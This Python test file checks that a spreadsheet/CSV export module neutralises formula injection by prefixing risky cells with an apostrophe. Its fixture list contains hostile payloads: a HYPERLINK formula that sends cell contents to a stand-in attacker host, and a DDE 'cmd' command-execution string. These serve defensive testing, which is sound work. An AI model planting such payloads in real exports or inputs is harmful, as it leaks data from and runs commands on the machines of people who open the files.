"""CSV cells are text: whatever somebody typed into a form, no spreadsheet calculates it."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consult.core import spreadsheet

ROOT = Path(__file__).resolve().parents[3]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u3000\uff1d1",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_text(text: str) -> None:
    assert spreadsheet.cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "text"),
    [("Ann", "Ann"), ("a=b", "a=b"), ("", ""), (None, ""), (-5, "-5"), (1.5, "1.5"), (True, "True"), ("-5", "'-5")],
)
def test_what_is_harmless_stays(value: Any, text: str) -> None:
    assert spreadsheet.cell(value) == text


@given(st.lists(st.lists(st.text(max_size=20), min_size=2, max_size=2), max_size=5))
def test_no_cell_of_any_text_begins_a_formula(rows: list[list[str]]) -> None:
    written = "".join(spreadsheet.lines(["one", "=two"], rows)).encode().decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(written, newline="")))
    assert read[0] == ["one", "'=two"]
    assert len(read) == len(rows) + 1
    for row in read:
        assert len(row) == 2, "no cell broke out of its own"
        for cell in row:
            assert not re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)


def test_what_no_file_can_hold_is_replaced() -> None:
    assert spreadsheet.cell("a\0b\ud800c") == "a\ufffdb?c"


def test_there_is_no_other_writer() -> None:
    writing = re.compile(r"\bcsv\.(writer|DictWriter)\b|content_type=.text/csv")
    found = {
        file.relative_to(ROOT).as_posix()
        for file in (ROOT / "consult").rglob("*.py")
        if "tests" not in file.parts and writing.search(file.read_text("utf-8"))
    }
    assert found == {"consult/core/spreadsheet.py"}
